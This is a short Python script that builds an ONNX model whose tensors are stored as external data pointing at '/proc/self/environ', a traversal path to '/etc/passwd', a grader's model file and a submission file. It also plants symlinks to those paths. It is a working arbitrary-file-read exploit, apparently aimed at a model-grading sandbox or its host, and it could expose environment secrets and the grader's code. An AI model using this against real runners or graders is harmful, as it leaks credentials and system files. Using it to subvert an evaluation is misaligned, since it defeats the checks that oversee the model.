"""ONNX lets a tensor's bytes lie in another file: of the runner's sandbox, or, loaded carelessly, of the host's."""
import os

import numpy as np
from onnx import TensorProto, helper

PLACES = ["/proc/self/environ", "../../../../../../etc/passwd", "/gradebox/gradebox_model.py", "/submission/solution.py", "inputs.npz"]


def tensor(name, place, kind, shape):
    out = TensorProto(name=name, data_type=kind, dims=shape, data_location=TensorProto.EXTERNAL)
    out.external_data.add(key="location", value=place)
    out.external_data.add(key="offset", value="0")
    out.external_data.add(key="length", value=str(int(np.prod(shape)) * 8))
    return out


graph = helper.make_graph(
    [
        helper.make_node("MatMul", ["X", "w"], ["side"]),
        helper.make_node("Add", ["side", "e"], ["sum"]),
        helper.make_node("Greater", ["sum", "zero"], ["above"]),
        helper.make_node("Cast", ["above"], ["y"], to=TensorProto.INT64),
    ],
    "outside",
    [helper.make_tensor_value_info("X", TensorProto.DOUBLE, [None, 2])],
    [helper.make_tensor_value_info("y", TensorProto.INT64, [None])],
    [tensor("w", PLACES[1], TensorProto.DOUBLE, [2]), tensor("e", PLACES[0], TensorProto.DOUBLE, [1]), tensor("zero", PLACES[2], TensorProto.DOUBLE, [1])],
)
model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)], ir_version=8)
with open("/work/model.onnx", "wb") as file:
    file.write(model.SerializeToString())
for place in PLACES:
    try:
        os.symlink(place, "/work/" + os.path.basename(place))
    except OSError:
        pass
